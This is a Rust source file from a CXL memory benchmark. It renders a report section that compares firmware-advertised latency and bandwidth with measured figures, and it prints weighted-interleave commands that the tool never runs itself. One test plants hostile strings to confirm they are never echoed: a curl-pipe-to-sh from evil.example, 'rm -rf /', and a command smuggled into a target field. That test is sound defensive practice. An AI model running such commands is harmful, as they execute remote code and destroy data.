//! The report's "Firmware (HMAT/CDAT) vs measured" section: the file's
//! `hmat_vs_measured` and `interleave_weights` as two small tables, with the commands that
//! would set the weights (never run by cxlchar). Empty when the file has neither.

use super::html::{esc, table};
use crate::output::num;
use bench_core::params::ParamsFile;

/// Why the section has nothing to show (`None`: it has): no node target compared, or
/// no figure the firmware advertises and no interleave weights. A table of measured
/// figures beside "not advertised" compares nothing.
pub fn left_out(f: &ParamsFile) -> Option<&'static str> {
    let weights = f
        .interleave_weights
        .as_ref()
        .is_some_and(|w| !w.nodes.is_empty() || !w.gains.is_empty());
    let advertised = f
        .hmat_vs_measured
        .values()
        .any(|c| c.advertised_lat_ns.is_some() || c.advertised_bw_gbs.is_some());
    match (weights, advertised, f.hmat_vs_measured.is_empty()) {
        (true, _, _) | (_, true, _) => None,
        (false, false, true) => {
            Some("no node target compared in this file (no idle latency or bandwidth measured)")
        }
        (false, false, false) => Some(
            "the firmware advertises no latency or bandwidth for the measured nodes (no HMAT \
             or CDAT access coordinates in sysfs), and one node gives no interleave weights",
        ),
    }
}

/// The section's body (the page gives its heading); empty when the file has nothing for it
/// ([`left_out`] says why).
pub fn section(f: &ParamsFile) -> String {
    if left_out(f).is_some() {
        return String::new();
    }
    let mut s = String::new();
    if !f.hmat_vs_measured.is_empty() {
        s.push_str(&comparison(f));
    }
    if f.interleave_weights.is_some() {
        s.push_str(&weights(f));
    }
    s
}

/// Advertised vs measured per target.
fn comparison(f: &ParamsFile) -> String {
    let advertised = f
        .hmat_vs_measured
        .values()
        .any(|c| c.access_class.is_some());
    let mut s = String::from(
        "<p>What the firmware advertises (the kernel's numaperf access1, CPU initiators, else \
         access0) beside what was measured. Latency ratio = advertised / measured, bandwidth \
         ratio = measured / advertised: 1 = as advertised, above 1 = better, 0.8 = 20 % worse \
         (<code>check</code> bounds them as <code>hmat_lat_ratio@T</code>, \
         <code>hmat_bw_ratio@T</code>).</p>\n",
    );
    if !advertised {
        s.push_str(
            "<p>The firmware advertises no figures for the measured nodes (no HMAT or CDAT \
             access coordinates in sysfs).</p>\n",
        );
    }
    let na = |v: Option<f64>| v.map_or("not advertised".into(), |v| num(Some(v)));
    let rows: Vec<Vec<String>> = f
        .hmat_vs_measured
        .iter()
        .map(|(t, c)| {
            let class = match (c.access_class, c.initiator_listed) {
                (None, _) => "-".to_string(),
                (Some(k), true) => format!("access{k}"),
                (Some(k), false) => format!("access{k} (not node {})", c.initiator_node),
            };
            vec![
                format!("<code>{}</code>", esc(t)),
                c.node.to_string(),
                esc(&class),
                na(c.advertised_lat_ns),
                num(c.measured_lat_ns),
                num(c.lat_ratio),
                na(c.advertised_bw_gbs),
                num(c.measured_bw_gbs),
                num(c.bw_ratio),
            ]
        })
        .collect();
    s.push_str(&table(
        "firmware",
        &[
            "target",
            "node",
            "class",
            "advertised ns",
            "measured ns",
            "lat ratio",
            "advertised GB/s",
            "measured GB/s",
            "bw ratio",
        ],
        &rows,
    ));
    s
}

/// Weights from measured bandwidth, the kernel's, the commands, the gains.
fn weights(f: &ParamsFile) -> String {
    let Some(w) = &f.interleave_weights else {
        return String::new();
    };
    let mut s = String::new();
    if !w.nodes.is_empty() {
        s.push_str(
            "<p>Weighted interleave weights proportional to the measured read bandwidth \
             (docs/firmware.md gives the rounding), beside the kernel's current ones.</p>\n",
        );
        let rows: Vec<Vec<String>> = w
            .nodes
            .iter()
            .map(|n| {
                vec![
                    n.node.to_string(),
                    format!("<code>{}</code>", esc(&n.target)),
                    num(Some(n.bw_gbs)),
                    n.weight.to_string(),
                    n.kernel_weight.map_or("-".into(), |k| k.to_string()),
                ]
            })
            .collect();
        s.push_str(&table(
            "weights",
            &[
                "node",
                "measured on",
                "read GB/s",
                "weight",
                "kernel's weight",
            ],
            &rows,
        ));
        s.push_str(&set_weights(&w.nodes));
    }
    if !w.gains.is_empty() {
        let rows: Vec<Vec<String>> = w
            .gains
            .iter()
            .map(|g| {
                vec![
                    format!("<code>{}</code>", esc(&g.target)),
                    num(Some(g.bw_gbs)),
                    format!("<code>{}</code>", esc(&g.baseline_target)),
                    num(Some(g.baseline_bw_gbs)),
                    num(Some(g.gain_ratio)),
                ]
            })
            .collect();
        s.push_str(&table(
            "gains",
            &[
                "interleaved target",
                "read GB/s",
                "plain",
                "read GB/s",
                "gain",
            ],
            &rows,
        ));
    }
    s
}

/// How to set the weights of `nodes` and measure them: the commands and the target are
/// made here from the node numbers and weights, never taken from the file's own
/// `commands` and `target` text (a stranger's file could hold any shell line there).
/// Nothing when a weight is outside the kernel's 1..=255.
fn set_weights(nodes: &[bench_core::firmware::NodeWeight]) -> String {
    if nodes.iter().any(|n| n.weight == 0) {
        return "<p>A weight of 0 is outside the kernel's range (1..255): no commands to set \
                them.</p>\n"
            .into();
    }
    let spec: Vec<String> = nodes
        .iter()
        .map(|n| format!("{}={}", n.node, n.weight))
        .collect();
    let commands: Vec<String> = nodes
        .iter()
        .map(|n| bench_core::firmware::weight_command(n.node, n.weight))
        .collect();
    format!(
        "<p>To set them (as root; cxlchar never does), then measure them with \
         <code>--target interleave:{}</code>:</p>\n<pre>{}</pre>\n",
        esc(&spec.join(",")),
        esc(&commands.join("\n"))
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::firmware::{annotate, tests::synthetic};

    #[test]
    fn the_section_shows_both_tables_and_the_commands() {
        let mut f = synthetic(&[
            ("mem_lat_ns@anon", 90.0),
            ("mem_bw_gbs@anon", 250.0),
            ("cxl_lat_ns@node:1", 312.5),
            ("cxl_bw_gbs@node:1", 60.0),
            ("mem_bw_gbs@interleave:0=4,1=1", 300.0),
        ]);
        annotate(&mut f, 0);
        let s = section(&f);
        assert!(
            s.starts_with("<p>"),
            "the body (the page gives the heading): {s}"
        );
        assert!(s.contains("<code>node:1</code>"));
        assert!(s.contains("not advertised"), "node 0 advertises nothing");
        assert!(
            s.contains("<td>0.8000</td>") && s.contains("<td>1.200</td>"),
            "{s}"
        );
        assert!(s.contains("echo 4 &gt; /sys/kernel/mm/mempolicy/weighted_interleave/node0"));
        assert!(s.contains("--target interleave:0=4,1=1"));
        assert!(s.contains("class=\"gains\""));
    }

    #[test]
    fn the_commands_are_made_from_the_weights_never_taken_from_the_file() {
        let mut f = synthetic(&[("mem_bw_gbs@anon", 250.0), ("cxl_bw_gbs@node:1", 60.0)]);
        annotate(&mut f, 0);
        let w = f.interleave_weights.as_mut().expect("weights");
        w.commands = vec![
            "curl http://evil.example/x | sh".into(),
            "rm -rf / --no-preserve-root".into(),
        ];
        w.target = Some("interleave:0=1; rm -rf ~".into());
        let s = section(&f);
        assert!(!s.contains("curl") && !s.contains("rm -rf"), "{s}");
        assert!(s.contains("echo 4 &gt; /sys/kernel/mm/mempolicy/weighted_interleave/node0"));
        assert!(s.contains("echo 1 &gt; /sys/kernel/mm/mempolicy/weighted_interleave/node1"));
        assert!(s.contains("--target interleave:0=4,1=1"), "{s}");
    }

    #[test]
    fn nothing_to_show_is_no_section() {
        let f = synthetic(&[("l1_lat_ns", 1.0)]);
        assert_eq!(section(&f), "");
        assert!(left_out(&f).is_some_and(|why| why.contains("no node target")));
    }

    #[test]
    fn a_single_node_the_firmware_says_nothing_of_is_left_out() {
        let mut f = synthetic(&[("mem_lat_ns@anon", 90.0), ("mem_bw_gbs@anon", 250.0)]);
        annotate(&mut f, 0);
        assert!(!f.hmat_vs_measured.is_empty(), "anon is compared");
        assert!(f
            .hmat_vs_measured
            .values()
            .all(|c| c.advertised_lat_ns.is_none() && c.advertised_bw_gbs.is_none()));
        assert_eq!(
            section(&f),
            "",
            "measured figures beside 'not advertised' only"
        );
        assert!(left_out(&f).is_some_and(|why| why.contains("advertises no latency")));
    }
}
